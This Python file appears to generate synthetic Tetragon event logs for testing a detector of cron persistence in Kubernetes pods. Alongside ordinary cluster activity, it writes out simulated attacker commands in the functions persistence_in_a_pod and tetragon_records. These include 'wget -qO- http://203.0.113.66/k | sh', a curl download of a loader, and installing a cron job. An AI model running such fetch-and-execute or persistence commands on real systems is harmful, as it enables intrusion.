"""What happens in the clusters of tetragon.ndjson.gz (prod-eu-1) and tetragon_hec.ndjson (stage-eu-1)."""

from datetime import datetime, timedelta, timezone

from tetragon import Node, Pod, sorted_records

BOOTED = datetime(2026, 11, 3, 4, 12, 40)
START, END = datetime(2026, 11, 20, 0, 0), datetime(2026, 11, 20, 18, 0)


def at(clock):
    hour, minute, second = (int(part) for part in clock.split(":"))
    return datetime(2026, 11, 20, hour, minute, second, 120_000)


def seconds(number):
    return timedelta(seconds=number)


def times(rng, mean, start=START, end=END):
    when = start
    while True:
        when += timedelta(microseconds=int(rng.expovariate(1 / mean) * 1_000_000))
        if when >= end:
            return
        yield when


def suffix(rng, length):
    return "".join(rng.choice("bcdfghjklmnpqrstvwxz2456789") for _ in range(length))


def deployment(node, namespace, workload, image, binary, arguments="", uid=0, cwd="/"):
    name = f"{workload}-{suffix(node.rng, 10)}-{suffix(node.rng, 5)}"
    return Pod(node, namespace, name, workload, "Deployment", image, BOOTED + timedelta(days=9), binary, arguments, uid, cwd)


def daemon_set(node, workload, image, binary, arguments=""):
    name = f"{workload}-{suffix(node.rng, 5)}"
    return Pod(node, "kube-system", name, workload, "DaemonSet", image, BOOTED + seconds(40), binary, arguments)


# ---- ordinary activity


def probes(node, pod, rng, mean, binary, arguments):
    """A liveness probe: the runtime starts it in the container, it ends at once."""
    for when in times(rng, mean):
        node.exec(when, node.shim, binary, arguments, pod=pod, cwd="/app", exits=rng.choice([0.02, 0.04, 1.1]))


def host_upkeep(node, rng):
    kubelet = node.exec(START + seconds(3), node.systemd, "/usr/bin/kubelet", "--config=/etc/kubernetes/kubelet/config.json --cloud-provider=external")
    for when in times(rng, 1400):
        binary, arguments = rng.choice([
            ("/usr/sbin/iptables", "-w 5 -W 100000 -S KUBE-KUBELET-CANARY -t nat"), ("/usr/bin/mount", "-t tmpfs tmpfs /var/lib/kubelet/pods"),
            ("/usr/sbin/runc", "--version"), ("/usr/bin/findmnt", "-n -o TARGET /var/lib/kubelet")])
        node.exec(when, kubelet, binary, arguments, exits=0.1)
    # The node's own cron is no pod's.
    cron = node.exec(START + seconds(5), node.systemd, "/usr/sbin/crond", "-n")
    for hour in range(18):
        when = START + timedelta(hours=hour, minutes=1, seconds=1, milliseconds=rng.randrange(900))
        shell = node.exec(when, cron, "/bin/sh", "-c \"run-parts /etc/cron.hourly\"", exits=1.2)
        node.exec(when + seconds(0.1), shell, "/usr/bin/run-parts", "/etc/cron.hourly", exits=0.8)


def shop_traffic(node, pod, rng):
    for when in times(rng, 900):
        node.connect(when, pod.main, rng.choice(["10.0.3.17", "10.0.5.41"]), rng.choice([5432, 6379]))
    for when in times(rng, 5000):
        shell = node.exec(when, pod.main, "/bin/sh", "-c \"convert /tmp/upload.png -resize 200x200 /tmp/thumb.png\"", exits=0.9)
        node.exec(when + seconds(0.05), shell, "/usr/bin/convert", "/tmp/upload.png -resize 200x200 /tmp/thumb.png", exits=0.7)


def kubernetes_cron_jobs(nodes, rng):
    """A CronJob is Kubernetes' own: it starts a pod, and no cron runs in it."""
    for number in range(36):
        node = rng.choice(nodes)
        when = START + timedelta(minutes=30 * number, seconds=4)
        name = f"nightly-report-{29_390_400 + 30 * number}-{suffix(rng, 5)}"
        pod = Pod(node, "batch", name, "nightly-report", "CronJob", "report:2.3", when, "/usr/local/bin/python3.11", "/srv/report.py --cron", 1000, "/srv")
        main = node.exec(when, node.shim, "/usr/local/bin/python3.11", "/srv/report.py --cron", pod=pod, uid=1000, cwd="/srv", exits=21)
        node.connect(when + seconds(2), main, "10.0.3.17", 5432)
        node.write(when + seconds(19), main, "srv/out/report.csv", rng.randrange(900, 80_000))


def operators_at_work(node, pod, rng):
    """People with kubectl exec: a shell and a look around."""
    for when in times(rng, 14_000, at("8:00:00"), at("17:00:00")):
        shell = node.exec(when, node.shim, "/bin/bash", "", pod=pod, exits=95)
        for number, (binary, arguments) in enumerate(rng.sample([("/bin/ls", "-la /etc/cron.d"), ("/bin/cat", "/etc/crontab"), ("/usr/bin/env", ""),
                                                                ("/usr/bin/top", "-b -n 1"), ("/bin/ps", "aux")], 3)):
            node.exec(when + seconds(8 + 11 * number), shell, binary, arguments, exits=0.3)


def legacy_billing(node, rng):
    """An image that runs cron by design: what the analytic also finds, and what its filter macro is for.
    The entry script is called crond too and replaces itself by the real one, in the same process."""
    when = at("5:00:12")
    pod = Pod(node, "legacy", f"billing-{suffix(rng, 10)}-{suffix(rng, 5)}", "billing", "Deployment", "billing:0.9", when, "/sbin/tini", "-- /entry.sh")
    entry = node.exec(when, node.shim, "/sbin/tini", "-- /entry.sh", pod=pod)
    script = node.exec(when + seconds(1), entry, "/usr/local/bin/crond", "/usr/local/bin/crond -f", cwd="/")
    crond = node.exec(when + seconds(2), entry, "/usr/sbin/crond", "-f -l 8", same_pid=script)
    for minutes in range(60, 780, 60):
        started = when + timedelta(minutes=minutes)
        shell = node.exec(started, crond, "/bin/sh", "-c /srv/invoice.sh", exits=4)
        node.exec(started + seconds(1), shell, "/usr/bin/php", "/srv/invoice.php", exits=2)


# ---- attacks


def persistence_in_a_pod(node, pod, loader, clock):
    """Code execution in a web application; a cron daemon is installed and given a job."""
    when = at(clock)
    shell = node.exec(when, pod.main, "/bin/sh", "-c \"id; cat /etc/os-release\"")
    node.exec(when + seconds(1), shell, "/usr/bin/id", exits=0.1)
    shell = node.exec(when + seconds(48), pod.main, "/bin/bash", "-i")
    curl = node.exec(when + seconds(60), shell, "/usr/bin/curl", f"-fsSL {loader} -o /tmp/.x", exits=2)
    node.connect(when + seconds(61), curl, "203.0.113.66", 80)
    node.exec(when + seconds(75), shell, "/usr/bin/apt-get", "install -y -qq cron", exits=9)
    node.exec(when + seconds(90), shell, "/usr/bin/crontab", "-l", exits=0.2)
    node.exec(when + seconds(97), shell, "/usr/bin/crontab", "/tmp/.c", exits=0.2)
    node.exec(when + seconds(110), shell, "/usr/sbin/cron", "-L 0")
    return shell


def prepare_cluster(rng, cluster, addresses):
    zones = ("a", "b", "c")
    return [Node(f"ip-{address.replace('.', '-')}.eu-central-1.compute.internal", cluster, f"eu-central-1{zones[number % 3]}",
                 BOOTED + seconds(31 * number), rng) for number, address in enumerate(addresses)]


def tetragon_records(rng):
    nodes = prepare_cluster(rng, "prod-eu-1", ["10.0.1.11", "10.0.2.12", "10.0.3.13"])
    for node in nodes:
        host_upkeep(node, rng)
        cni = daemon_set(node, "aws-node", "amazon-k8s-cni:v1.19.2", "/app/aws-k8s-agent")
        probes(node, cni, rng, 360, "/app/grpc-health-probe", "-addr=:50051 -connect-timeout=5s -rpc-timeout=5s")
        daemon_set(node, "kube-proxy", "kube-proxy:v1.33.1", "/usr/local/bin/kube-proxy")
    web = deployment(nodes[0], "shop", "web", "shop-web:7.2", "/usr/local/bin/node", "/srv/server.js", 1000, "/srv")
    checkout = deployment(nodes[1], "shop", "checkout", "shop-checkout:3.1", "/usr/bin/java", "-jar /srv/checkout.jar", 1000, "/srv")
    redis = deployment(nodes[2], "shop", "redis", "redis:7.4", "/usr/local/bin/redis-server", "*:6379", 999, "/data")
    grafana = deployment(nodes[2], "monitoring", "grafana", "grafana:12.0.1", "/usr/share/grafana/bin/grafana", "server", 472, "/usr/share/grafana")
    shop_traffic(nodes[0], web, rng)
    shop_traffic(nodes[1], checkout, rng)
    probes(nodes[2], redis, rng, 420, "/usr/local/bin/redis-cli", "ping")
    operators_at_work(nodes[2], grafana, rng)
    operators_at_work(nodes[0], web, rng)
    kubernetes_cron_jobs(nodes, rng)
    legacy_billing(nodes[2], rng)

    persistence_in_a_pod(nodes[0], web, "http://203.0.113.66/k", "12:14:05")
    # The next pod, an hour later: here a table is piped in, twice by the same process, and busybox serves as cron.
    shell = nodes[1].exec(at("13:20:31"), checkout.main, "/bin/sh", "-c \"wget -qO- http://203.0.113.66/k | sh\"")
    script = nodes[1].exec(at("13:20:33"), shell, "/usr/local/bin/crontab", "/usr/local/bin/crontab -")
    nodes[1].exec(at("13:20:34"), shell, "/usr/bin/crontab", "-", same_pid=script, exits=0.2)
    nodes[1].exec(at("13:20:40"), shell, "/usr/sbin/crond", "-b -L /dev/null")
    return sorted_records(nodes)


def hec_records(rng):
    """The events of a small cluster as an exporter posts them to Splunk: `time` is the time of the event."""
    (node,) = prepare_cluster(rng, "stage-eu-1", ["10.8.1.21"])
    cni = daemon_set(node, "aws-node", "amazon-k8s-cni:v1.19.2", "/app/aws-k8s-agent")
    probes(node, cni, rng, 1300, "/app/grpc-health-probe", "-addr=:50051 -connect-timeout=5s -rpc-timeout=5s")
    api = deployment(node, "stage", "api", "shop-api:5.0-rc1", "/usr/local/bin/node", "/srv/api.js", 1000, "/srv")
    persistence_in_a_pod(node, api, "http://203.0.113.66/s", "16:02:50")
    sourcetypes = {"process_exec": "cisco:isovalent:processExec", "process_connect": "cisco:isovalent:processConnect"}
    envelopes = []
    for record in sorted_records([node]):
        when = datetime.fromisoformat(record["time"][:26]).replace(tzinfo=timezone.utc)
        envelopes.append({"time": round(when.timestamp(), 3), "host": node.name, "source": "not_applicable",
                          "sourcetype": sourcetypes.get(next(iter(record)), "cisco:isovalent"), "index": "isovalent", "event": record})
    return envelopes
